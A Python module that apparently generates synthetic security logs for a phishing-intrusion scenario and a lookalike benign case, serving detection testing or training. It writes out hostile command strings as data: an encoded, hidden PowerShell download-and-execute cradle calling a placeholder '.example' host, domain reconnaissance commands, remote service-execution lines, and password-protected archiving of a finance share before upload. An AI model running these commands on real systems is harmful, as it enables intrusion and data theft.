"""A mail with a macro, a shell, a sign-in to a server, an archive, and the data are gone."""

import base64
from collections.abc import Iterator
from typing import Final

from deploy.demo import cloud
from deploy.demo.company import public_ip
from deploy.demo.rows import MINUTE, SECOND, Row
from deploy.demo.server_life import admin_account
from deploy.demo.tale import Tale
from deploy.demo.windows import OFFICE, Process, logon, privileges, service_made
from deploy.demo.wire import asked, flow

NAME: Final = "phishing"
START_H: Final = (8.5, 13.0)
FIRST_DAY: Final = 4
AT_NIGHT: Final = False
_PS: Final = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_CMD: Final = r"C:\Windows\System32\cmd.exe"
_LURES: Final = ("Overdue invoice {0}", "Updated price list {0}", "Scan of contract {0}")


def planted(tale: Tale) -> Iterator[Row]:
    """Tell it: five steps within two or three hours."""
    dice, who = tale.dice, tale.cast.person("sales", "support", "production", "purchasing")
    host = (who.host, who.ip)
    control, sink = public_ip(dice), public_ip(dice)
    site = f"cdn-{dice.choice(('files', 'docs', 'assets'))}{dice.randint(10, 99)}.example"
    number = dice.randint(10000, 99999)
    tale.about(("user", who.account), ("host", who.host), ("ip", who.ip), ("ip", control))
    known = tale.company.vendors[dice.randrange(len(tale.company.vendors))].domain
    sender = f"billing@{known.replace('-', '').replace('l', '1', 1)}"
    paper = f"scan_{number}.{dice.choice(('docm', 'xlsm', 'doc'))}"
    yield cloud.received(
        tale.later(0),
        sender,
        who.mail,
        dice.choice(_LURES).format(number),
        dmarc=False,
        attachments=paper,
        mark=tale.step("mail with macro"),
    )
    outlook = Process(dice, host, who.account, OFFICE + "OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE"')
    image = OFFICE + ("EXCEL.EXE" if paper.endswith("xlsm") else "WINWORD.EXE")
    cache = (
        f"C:\\Users\\{who.account}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
    )
    office = Process(dice, host, who.account, image, f'"{image}" /n "{cache}\\{paper}"')
    opened = tale.later(6, 25)
    yield office.started(opened, outlook)
    code = f"IEX (New-Object Net.WebClient).DownloadString('http://{site}/{number}')"
    packed = base64.b64encode(code.encode("utf-16-le")).decode()
    words = dice.choice(
        (f"powershell.exe -nop -w hidden -enc {packed}", f'powershell -w hidden -c "{code}"')
    )
    shell = Process(dice, host, who.account, _PS, words)
    at = opened + dice.randrange(8 * SECOND, 40 * SECOND)
    yield shell.started(at, office, tale.step("office starts a shell"))
    yield asked(dice, at + SECOND, who.ip, tale.dns(), site, control)
    out = tale.step("shell connects out")
    yield shell.connected(at + 2 * SECOND, (control, 443), site, dice.randint(49152, 65535), out)
    yield flow(dice, at + 2 * SECOND, who.ip, (control, 443), 2200, 412_000, seconds=9, mark=out)
    for command, after in (
        ("whoami /all", 200),
        ('net group "Domain Admins" /domain', 260),
        ("nltest /dclist:meridian", 300),
    ):
        looked = Process(dice, host, who.account, _CMD, f"cmd.exe /c {command}")
        yield looked.started(at + after * SECOND, shell)
    yield from _moved(tale, who.account, host, at + dice.randrange(15 * MINUTE, 50 * MINUTE), sink)


def _moved(tale: Tale, account: str, host: tuple[str, str], at: int, sink: str) -> Iterator[Row]:
    dice = tale.dice
    files = dice.choice([s for s in tale.company.servers if s.role in ("file", "application")])
    there = (files.name, files.ip)
    tale.about(("host", files.name), ("ip", sink))
    mark = tale.step("remote execution on a server")
    yield logon(at, there, account, 3, host, port=dice.randint(49152, 65535), mark=mark)
    yield flow(dice, at, host[1], (files.ip, 445), 380_000, 42_000, service="smb")
    if dice.random() < 0.5:
        name = "".join(dice.choices("abcdefghijklmnopqrstuvwxyzABCDEFGH", k=8))
        batch = rf"%TEMP%\{name}.bat"
        asked_for = r"%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1"
        command = f"{asked_for} > {batch} & %COMSPEC% /Q /c {batch}"
        yield service_made(at + 4 * SECOND, there, name, command, mark=mark)
        parent = Process(dice, there, "SYSTEM", r"C:\Windows\System32\services.exe", "services.exe")
    else:
        parent = Process(
            dice,
            there,
            "NETWORK SERVICE",
            r"C:\Windows\System32\wbem\WmiPrvSE.exe",
            r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        )
    shell = Process(
        dice, there, account, _CMD, "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1"
    )
    yield shell.started(at + 6 * SECOND, parent, mark)
    tool = dice.choice((r"C:\ProgramData\7z.exe", r"C:\ProgramData\rar.exe"))
    word = "".join(dice.choices("abcdefghkmnpqrstuvwxyz23456789", k=10))
    words = (
        f"7z.exe a -p{word} -mhe C:\\ProgramData\\d.7z D:\\share\\finance"
        if "7z" in tool
        else f"rar.exe a -hp{word} C:\\ProgramData\\d.rar D:\\share\\finance"
    )
    later = at + dice.randrange(12 * MINUTE, 35 * MINUTE)
    mark = tale.step("archive with password and upload")
    yield Process(dice, there, account, tool, words).started(later, shell, mark)
    gone = later + dice.randrange(6 * MINUTE, 15 * MINUTE)
    for n in range(dice.choice((1, 3))):
        size = int(dice.uniform(620, 1400) * 1e6)
        yield flow(
            dice,
            gone + n * 4 * MINUTE,
            files.ip,
            (sink, 443),
            size,
            size // 900,
            seconds=210,
            mark=mark,
        )


def near_miss(tale: Tale) -> Iterator[Row]:
    """Tell what looks alike: the add-in updater, and an administrator's install by day."""
    dice, who = tale.dice, tale.cast.person("finance", "sales")
    host = (who.host, who.ip)
    tale.about(("host", who.host), ("user", who.account))
    yield cloud.received(
        tale.later(0),
        f"report@{tale.company.vendors[0].domain}",
        who.mail,
        "Monthly figures",
        attachments="figures.xlsm",
        mark=tale.step("mail with macro from a known partner"),
    )
    excel = Process(
        dice, host, who.account, OFFICE + "EXCEL.EXE", f'"{OFFICE}EXCEL.EXE" figures.xlsm'
    )
    outlook = Process(dice, host, who.account, OFFICE + "OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE"')
    yield excel.started(tale.later(5), outlook)
    image = r"C:\Program Files\Meridian\ReportAddin\AddinUpdate.exe"
    addin = Process(dice, host, who.account, image, f'"{image}" /quiet')
    yield addin.started(tale.later(6), excel, tale.step("office starts the signed updater"))
    admin, jump = tale.cast.person("it"), tale.company.server("jump")
    target = tale.company.server("application")
    there, at, account = (target.name, target.ip), tale.later(30), admin_account(admin)
    yield logon(at, (jump.name, jump.ip), account, 10, (admin.host, admin.ip), port=50123)
    mark = tale.step("service installed from the jump host")
    yield logon(at + MINUTE, there, account, 3, (jump.name, jump.ip), port=50124, mark=mark)
    yield privileges(at + MINUTE + 900, there, account)
    command = r'"C:\Program Files\Zabbix Agent 2\zabbix_agent2.exe" -c zabbix_agent2.conf'
    yield service_made(at + 2 * MINUTE, there, "Zabbix Agent 2", command, mark=mark)
